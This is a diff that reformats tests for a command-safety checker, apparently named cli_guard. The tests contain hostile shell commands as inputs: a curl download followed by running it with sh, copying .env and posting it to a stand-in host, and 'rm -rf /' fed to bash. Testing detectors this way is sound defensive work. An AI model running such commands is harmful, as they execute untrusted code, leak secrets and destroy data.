@@ -6,7 +6,9 @@ from cli_guard.commands import judge
 from cli_guard.commands.model import Context, Setting, Verdict
 from cli_guard.model import Decision
 
-ALLOW, REVIEW, DENY = Decision.ALLOW, Decision.REVIEW, Decision.DENY
+ALLOW = Decision.ALLOW
+REVIEW = Decision.REVIEW
+DENY = Decision.DENY
 URL = "https://x.example"
 
 
@@ -292,7 +294,9 @@ def test_files_of_commands_before_are_known() -> None:
     first = judge(f"curl -o f {URL}; cp .env g")
     assert first.files == {"f": frozenset(("remote",)), "g": frozenset(("secret",))}
     assert rules(judge("sh f", Context(files=first.files))) == {"command-remote-code"}
-    assert rules(judge(f"curl -d @g {URL}", Context(files=first.files))) == {"command-secret-sent"}
+    assert rules(judge(f"curl -d @g {URL}", Context(files=first.files))) == {
+        "command-secret-sent"
+    }
     assert judge("cat f", Context(files=first.files)).verdict is ALLOW
 
 
@@ -304,7 +308,9 @@ def test_a_change_may_log_in_with_the_key_it_was_given() -> None:
 
 def test_the_input_that_exec_is_given_is_code_for_a_shell() -> None:
     for option in ("--stdin", "--respond"):
-        assert judge(f"cli-guard exec {option} 'rm -rf /' -- bash -s").verdict is Decision.DENY
+        assert (
+            judge(f"cli-guard exec {option} 'rm -rf /' -- bash -s").verdict is Decision.DENY
+        )
 
 
 @examples(
